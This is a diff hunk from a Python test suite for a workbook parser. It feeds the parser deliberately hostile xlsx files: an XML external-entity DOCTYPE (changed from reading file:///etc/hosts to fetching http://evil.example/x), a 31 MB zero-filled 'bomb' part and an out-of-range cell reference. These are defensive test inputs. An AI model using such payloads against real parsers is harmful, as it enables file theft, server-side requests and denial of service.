@@ -268,7 +268,7 @@ def test_another_workbook_with_the_same_sheets_is_not_taken_for_ours():
             book,
             "xl/workbook.xml",
             b"<workbook ",
-            b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hosts">]><workbook ',
+            b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://evil.example/x">]><workbook ',
         ),
         lambda book: with_part(book, "xl/media/bomb.bin", b"\x00" * (31 * 1024 * 1024)),
         lambda book: replaced(book, "xl/worksheets/sheet2.xml", b'r="A1"', b'r="XFD1048576"'),
